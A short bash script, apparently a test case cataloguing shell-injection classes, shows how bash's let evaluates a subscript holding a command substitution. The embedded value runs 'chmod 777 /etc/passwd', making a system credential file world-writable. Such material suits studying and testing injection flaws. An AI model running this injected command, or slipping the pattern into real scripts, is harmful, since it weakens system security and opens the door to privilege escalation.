#!/usr/bin/env bash
# attack-class: 20
# title: let with an injected expression
# why: let evaluates arithmetic with subscript expansion

v='a[$(chmod 777 /etc/passwd)]'
let "r = v + 1"
